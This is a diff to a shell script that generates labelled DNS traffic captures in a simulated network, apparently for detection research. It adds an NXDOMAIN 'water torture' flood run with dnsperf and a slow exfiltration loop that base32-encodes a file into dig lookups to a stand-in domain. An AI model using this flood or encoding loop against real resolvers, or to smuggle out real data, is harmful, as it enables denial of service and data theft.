@@ -20,6 +20,8 @@ DICT_SPEC="suppobox:dga/baderj_dga_examples.csv" DICT_MIN=15 DICT_MAX=40
 D2T_DOMAIN=d.filesync.test D2T_RATE=50 D2T_TYPE=TXT D2T_DELAY_MS=45
 C2_DOMAIN=cdn-metrics-sync.com BEACON_PERIOD=60 BEACON_JITTER=0.04 PHISH_EPISODES=4
 PROBE_MEAN=1500 PROBE_HOST_MEAN=700
+FLOOD_DOMAIN=mapleleaf-credit.com FLOOD_QPS=10 FLOOD_SECS=120
+EXFIL_DOMAIN=statuscdn-telemetry.net EXFIL_MIN=100 EXFIL_MAX=140 EXFIL_FILE=/usr/share/common-licenses/GPL-3
 TUN_DOMAIN=t.tunnel.test TUN_TYPE=NULL TUN_EXTRA="" TUN_START="" TUN_RATE=2000
 TUN_UP=400000 TUN_DOWN=150000 TUN_BEACON="3 12" PING_INTERVAL=2
 ALIGN=300 LEAD=20 MAL_TAIL=25 PACE=1.0 QNAME_MIN=no ZONE_COUNT=350 AUTH_DELAY_MS=18 KEEP=0
@@ -43,8 +45,8 @@ host mix (each host its own namespace):
                        and then every ~SEC s (exponential; default 1500; 0 = off)
   --probe-host-mean SEC  the same for the dedicated probe hosts (default 700)
 attacks (each on its own host, which also browses lightly):
-  --attacks LIST       comma list of iodine,dns2tcp,beacon,dictdga,phish,dga
-                       (default all; 'none' for a benign-only run)
+  --attacks LIST       comma list of iodine,dns2tcp,beacon,dictdga,phish,dga,nxflood,slowexfil
+                       (default: the first six; 'none' for a benign-only run)
   --attack-start SEC   every attack starts this long after the capture starts (default 1800)
   --dict-dga SPEC      dictionary DGA names (default suppobox:dga/baderj_dga_examples.csv)
   --dict-period MIN MAX  seconds between dictionary-DGA lookups (default 15 40)
@@ -55,6 +57,15 @@ attacks (each on its own host, which also browses lightly):
   --c2-domain D        TXT beacon domain (default cdn-metrics-sync.com)
   --beacon-period SEC  TXT beacon period (default 60), --beacon-jitter F (default 0.04)
   --phish-episodes N   phishing episodes in the attack period (default 4)
+  --nxflood-domain D   random-subdomain flood target, served by the fake internet
+                       (default mapleleaf-credit.com)
+  --nxflood-rate QPS   dnsperf -Q rate of the flood (default 10)
+  --nxflood-secs SEC   flood length (dnsperf -l; default 120)
+  --exfil-domain D     slow-exfiltration domain (wildcard A; default statuscdn-telemetry.net)
+  --exfil-period MIN MAX  seconds between slow-exfiltration lookups (default 100 140:
+                       2-3 encoded names in a whole 5-minute window)
+  --exfil-file F       file whose gzip'd bytes are exfiltrated, base32 in the names
+                       (default /usr/share/common-licenses/GPL-3)
   --dga SPEC           DGA names: a plain list file, or FAMILY:baderj-csv; relative
                        paths are tried under the domain-list folder too
                        (default: dga/andrewaeva_conficker_1000.txt)
@@ -110,6 +121,12 @@ while [[ $# -gt 0 ]]; do
     --beacon-period) BEACON_PERIOD=$2; shift 2;;
     --beacon-jitter) BEACON_JITTER=$2; shift 2;;
     --phish-episodes) PHISH_EPISODES=$2; shift 2;;
+    --nxflood-domain) FLOOD_DOMAIN=$2; shift 2;;
+    --nxflood-rate) FLOOD_QPS=$2; shift 2;;
+    --nxflood-secs) FLOOD_SECS=$2; shift 2;;
+    --exfil-domain) EXFIL_DOMAIN=$2; shift 2;;
+    --exfil-period) EXFIL_MIN=$2; EXFIL_MAX=$3; shift 3;;
+    --exfil-file) EXFIL_FILE=$2; shift 2;;
     --dga) DGA_SPEC=$2; shift 2;;
     --dga-period) DGA_MIN=$2; DGA_MAX=$3; shift 3;;
     --dga-batch) BATCH_MIN=$2; BATCH_MAX=$3; shift 3;;
@@ -162,9 +179,17 @@ done
 [[ -n "$TUN_START" ]] || TUN_START=$ATTACK_START
 [[ "$ATTACKS" == none ]] && ATTACKS=""
 for x in ${ATTACKS//,/ }; do
-  [[ "$x" =~ ^(iodine|dns2tcp|beacon|dictdga|phish|dga)$ ]] || { echo "unknown attack $x" >&2; exit 2; }
+  [[ "$x" =~ ^(iodine|dns2tcp|beacon|dictdga|phish|dga|nxflood|slowexfil)$ ]] || { echo "unknown attack $x" >&2; exit 2; }
 done
 has_attack() { [[ ",$ATTACKS," == *",$1,"* ]]; }
+if has_attack nxflood; then
+  command -v dnsperf >/dev/null || { echo "missing dnsperf (apt-get install dnsperf)" >&2; exit 1; }
+  (( ATTACK_START + FLOOD_SECS + MAL_TAIL <= DURATION )) || { echo "--nxflood-secs too long for --duration" >&2; exit 2; }
+fi
+if has_attack slowexfil; then
+  [[ -r "$EXFIL_FILE" ]] || { echo "--exfil-file $EXFIL_FILE not readable" >&2; exit 2; }
+  (( EXFIL_MIN >= 1 && EXFIL_MAX >= EXFIL_MIN )) || { echo "bad --exfil-period" >&2; exit 2; }
+fi
 for s in "$ATTACK_START" "$DGA_START" "$TUN_START"; do
   (( s + MAL_TAIL + 60 <= DURATION )) || { echo "attack start $s too late for --duration $DURATION" >&2; exit 2; }
 done
@@ -228,6 +253,8 @@ has_attack dns2tcp && add_host d2t dns2tcp
 has_attack beacon && add_host bcn beacon
 has_attack dictdga && add_host ddga dictdga
 has_attack phish && add_host phish phish
+has_attack nxflood && add_host flood nxflood
+has_attack slowexfil && add_host exf slowexfil
 PTRS=()
 PTR_IPS=""
 for h in "${HOSTS[@]}"; do
@@ -235,7 +262,7 @@ for h in "${HOSTS[@]}"; do
   case $3 in
     workstation) pn="$1-pc";; server) pn="$1-app";; mail) pn="mx-$1";; media) pn="tv-$1";;
     av|chromeprobe|winmember) pn="$1-pc";;
-    dga|dictdga|beacon) pn="ws-$((RANDOM % 900 + 100))";; *) pn="lt-$((RANDOM % 900 + 100))";;
+    dga|dictdga|beacon|nxflood|slowexfil) pn="ws-$((RANDOM % 900 + 100))";; *) pn="lt-$((RANDOM % 900 + 100))";;
   esac
   PTRS+=(--ptr "$2=$pn.corp.lan"); PTR_IPS+="$2,"
 done
@@ -246,6 +273,7 @@ log "generating zones ($ZONE_COUNT domains, tunnel zone $TUN_DOMAIN)"
 "$PY" "$HERE/gen_zones.py" --top "$DOMAINS/benign/top50k_kmikholap_top-1m.csv" --count "$ZONE_COUNT" \
   --out "$W" --auth-ip "$AUTH" --nsd-listen "127.0.0.1@5300" --iodined-ip "$IOD" \
   --tunnel-domain "$TUN_DOMAIN" --dns2tcp-domain "$D2T_DOMAIN" --dns2tcp-ip "$D2S" --c2-domain "$C2_DOMAIN" \
+  --flood-domain "$FLOOD_DOMAIN" --exfil-domain "$EXFIL_DOMAIN" \
   --resolver-lan-ip "$RES_LAN" --resolver-up-ip "$RES_UP" \
   --lan-cidr 10.53.0.0/25 --qname-min "$QNAME_MIN" "${PTRS[@]}"
 nsd-checkconf "$W/nsd.conf"
@@ -383,7 +411,7 @@ for h in "${HOSTS[@]}"; do
         --until "$CLIENT_END" --log "$LOGS/$1-server.jsonl" --dig-opts "+noedns +noad" --aaaa 0.3 \
         --ptr-ips "$PTR_IPS" >"$LOGS/$1-server.out" 2>&1 & BG_PIDS+=($!);;
     dga) client_ws "$1" "$2" "$cs";;
-    tunnel|dns2tcp|beacon|dictdga|phish) client_ws "$1" "$2" "$cs" "${light[@]}";;
+    tunnel|dns2tcp|beacon|dictdga|phish|nxflood|slowexfil) client_ws "$1" "$2" "$cs" "${light[@]}";;
     mail)
       echo "$1 $2 mail" >>"$W/profiles.txt"
       client_role "$1" mail "$cs" --dig-opts "+noedns +noad";;
@@ -483,12 +511,70 @@ dns2tcp_run() {
 }
 D2T_RUN_PID=""; has_attack dns2tcp && { dns2tcp_run >"$LOGS/dns2tcp-run.out" 2>&1 & D2T_RUN_PID=$!; }
 
+# random-subdomain ("water torture") flood: dnsperf sends FLOOD_QPS A queries a
+# second for FLOOD_SECS s through the resolver, each a never-seen random label
+# (6-14 of [a-z0-9], like Mirai's attack) under FLOOD_DOMAIN, which the fake
+# internet serves: every one is a cache miss for unbound and an NXDOMAIN from
+# the domain's own (NSD) server
+nxflood_run() {
+  sleep "$ATTACK_START"
+  "$PY" - "$W/nxflood.queries" "$FLOOD_DOMAIN" $(( FLOOD_QPS * FLOOD_SECS + 50 )) "$SEED" <<'PYEOF'
+import random, sys
+out, dom, n, seed = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
+r = random.Random(seed * 7 + 3)
+seen = set()
+with open(out, "w") as f:
+    while len(seen) < n:
+        lab = "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.randint(6, 14)))
+        if lab not in seen:
+            seen.add(lab)
+            f.write("%s.%s A\n" % (lab, dom))
+PYEOF
+  local from to
+  from=$(now)
+  ip netns exec "$P-flood" timeout $(( FLOOD_SECS + 30 )) dnsperf -s "$RES_LAN" -d "$W/nxflood.queries" -n 1 \
+    -c 1 -Q "$FLOOD_QPS" -l "$FLOOD_SECS" -t 5 -S 30 >"$LOGS/dnsperf.out" 2>&1 || true
+  to=$(now)
+  echo "{\"from\": $from, \"to\": $to}" >"$W/flood.mark.json"
+}
+FLOOD_RUN_PID=""; has_attack nxflood && { nxflood_run >"$LOGS/nxflood-run.out" 2>&1 & FLOOD_RUN_PID=$!; }
+
+# slow exfiltration: a real file (gzip -9, base32, lowercase, no padding) in
+# 100-character chunks, one dig A lookup every EXFIL_MIN-EXFIL_MAX s:
+# <4 hex sequence><48 chars>.<52 chars>.<EXFIL_DOMAIN> (wildcard A), so a
+# 5-minute window holds 2-3 encoded names; the file is sent again from the
+# start if it runs out before MAL_END
+slowexfil_run() {
+  sleep "$ATTACK_START"
+  local data seq=0 off=0 first="" last="" c name left gap
+  data=$(gzip -9 -c -n "$EXFIL_FILE" | base32 -w 0 | tr -d '=' | tr 'A-Z' 'a-z')
+  RANDOM=$(( SEED * 31 + 7 ))
+  while :; do
+    (( off + 100 <= ${#data} )) || off=0
+    c=${data:off:100}; off=$(( off + 100 ))
+    name=$(printf '%04x%s.%s.%s' "$seq" "${c:0:48}" "${c:48:52}" "$EXFIL_DOMAIN")
+    [[ -n "$first" ]] || first=$(now)
+    last=$(now)
+    echo "$last $name"
+    ip netns exec "$P-exf" timeout 20 dig @"$RES_LAN" +tries=2 +time=3 +short "$name" A >/dev/null 2>&1 || true
+    seq=$(( seq + 1 ))
+    gap=$(( EXFIL_MIN + RANDOM % (EXFIL_MAX - EXFIL_MIN + 1) ))
+    left=$(awk -v e="$MAL_END" -v n="$(now)" 'BEGIN{printf "%d", e-n}')
+    (( left > gap )) || break
+    sleep "$gap"
+  done
+  [[ -n "$first" ]] && echo "{\"first\": $first, \"last\": $last, \"stopped\": $(now), \"lookups\": $seq}" >"$W/exf.mark.json"
+}
+EXFIL_RUN_PID=""; has_attack slowexfil && { slowexfil_run >"$LOGS/slowexfil-run.out" 2>&1 & EXFIL_RUN_PID=$!; }
+
 log "hosts:"; for h in "${HOSTS[@]}"; do echo "    $h"; done
 log "waiting for the capture to finish (${DURATION}s)"
 wait_pid $CAP_PID $(( DURATION + 60 ))
 CAP_STOP=$(now)
 [[ -n "$TUN_RUN_PID" ]] && wait_pid $TUN_RUN_PID 120
 [[ -n "$D2T_RUN_PID" ]] && wait_pid $D2T_RUN_PID 60
+[[ -n "$FLOOD_RUN_PID" ]] && wait_pid $FLOOD_RUN_PID 60
+[[ -n "$EXFIL_RUN_PID" ]] && wait_pid $EXFIL_RUN_PID 60
 log "capture done: $(stat -c %s "$PCAP") bytes; $(cat "$W/tunnel.status" 2>/dev/null || echo 'no tunnel status')"
 
 # ---------------------------------------------------------------- ground truth
@@ -500,7 +586,8 @@ out, cs, ce, w = sys.argv[1], float(sys.argv[2]), float(sys.argv[3]), sys.argv[4
 # attacks) or from/to (tunnel clients, launch to exit)
 ATTACK = {"dga": ("dga.mark.json", "dga_beacon"), "dictdga": ("ddga.mark.json", "dga_dictionary"),
           "beacon": ("bcn.mark.json", "c2_beacon"), "phish": ("phish.mark.json", "phishing"),
-          "tunnel": ("tunnel.mark.json", "dns_tunnel"), "dns2tcp": ("d2t.mark.json", "slow_exfil")}
+          "tunnel": ("tunnel.mark.json", "dns_tunnel"), "dns2tcp": ("d2t.mark.json", "slow_exfil"),
+          "nxflood": ("flood.mark.json", "nxdomain_flood"), "slowexfil": ("exf.mark.json", "slow_exfil")}
 def ts(t):
     return datetime.datetime.fromtimestamp(t, datetime.timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z")
 def load(p):
